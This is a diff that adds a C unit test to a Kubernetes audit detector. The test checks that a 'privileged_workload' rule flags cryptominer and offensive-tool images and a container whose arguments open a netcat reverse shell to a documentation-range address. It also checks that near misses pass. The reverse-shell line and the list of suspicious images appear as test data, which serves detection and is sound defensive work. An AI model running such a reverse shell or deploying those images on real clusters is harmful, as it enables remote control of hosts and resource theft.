@@ -1335,6 +1335,60 @@ START_TEST(anonymous_oidc_discovery)
 }
 END_TEST
 
+/* ---- privileged_workload: suspicious images and reverse-shell arguments ---- */
+
+START_TEST(privileged_images_and_arguments)
+{
+	const char *v;
+	kag_registry *r;
+
+	/* a miner from Docker Hub, tag and digest aside */
+	judge(POD_SPEC("{'containers':[{'name':'app','image':'docker.io/xmrig/xmrig:6.21.0@"
+		       "sha256:0123'}]}"));
+	v = flagged("privileged_workload", "high");
+	expect_has(v, "evidence.podSecurity.suspiciousImages", "docker.io/xmrig/xmrig:6.21.0@sha256:0123");
+	expect_reason(v, "suspicious image docker.io/xmrig/xmrig");
+
+	/* an offensive tool in a Deployment's template, in an init container */
+	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
+	      "'deployments','namespace':'prod','name':'scan','apiGroup':'apps'}," OK201 ","
+	      "'requestObject':{'spec':{'template':{'spec':{'initContainers':[{'name':'h',"
+	      "'image':'aquasec/kube-hunter:0.6.8'}],'containers':[{'name':'app','image':"
+	      "'nginx'}]}}}}}");
+	v = flagged("privileged_workload", "high");
+	expect_has(v, "evidence.podSecurity.suspiciousImages", "aquasec/kube-hunter:0.6.8");
+
+	/* a reverse shell in a container's command and args */
+	judge(POD_SPEC("{'containers':[{'name':'app','image':'alpine:3.19','command':['/bin/sh',"
+		       "'-c'],'args':['nc 203.0.113.7 4444 -e /bin/sh']}]}"));
+	v = flagged("privileged_workload", "critical");
+	expect(v, "evidence.podSecurity.reverseShell.container", "app");
+	expect(v, "evidence.podSecurity.reverseShell.form", "netcat -e");
+	expect_reason(v, "container app opens a reverse shell (netcat -e)");
+	expect_has(v, "attack", "T1059.004");
+	/* the arguments themselves are not shown */
+	ck_assert_ptr_null(strstr(v, "203.0.113.7"));
+
+	/* near misses: a name that only contains a listed one, a tag named
+	 * like one, a command that uses the network without a shell */
+	judge(POD_SPEC("{'containers':[{'name':'app','image':'registry.example.com/"
+		       "xmrig-exporter:1.0'},{'name':'b','image':'busybox:kube-hunter'}]}"));
+	none("privileged_workload");
+	judge(POD_SPEC("{'containers':[{'name':'app','image':'alpine:3.19','command':['sh','-c',"
+		       "'until nc -z db 5432; do sleep 1; done']}]}"));
+	none("privileged_workload");
+
+	/* the list is policy: a caller's own image */
+	ck_assert_int_eq(kag_registry_new(&r), KAG_OK);
+	ck_assert_int_eq(kag_registry_policy_add(r, KAG_LIST_SUSPICIOUS_IMAGES,
+						 "redteam/toolbox"), KAG_OK);
+	fresh(r);
+	judge_more(POD_SPEC("{'containers':[{'name':'t','image':'registry.example.com/redteam/"
+			    "toolbox:2'}]}"));
+	flagged("privileged_workload", "high");
+}
+END_TEST
+
 static Suite *suite(void)
 {
 	Suite *s = suite_create("catalogue");
@@ -1396,6 +1450,7 @@ static Suite *suite(void)
 	tcase_add_test(tc, credentials_token_secrets);
 	tcase_add_test(tc, privileged_read_only_and_shared_pid);
 	tcase_add_test(tc, anonymous_oidc_discovery);
+	tcase_add_test(tc, privileged_images_and_arguments);
 	suite_add_tcase(s, tc);
 	return s;
 }
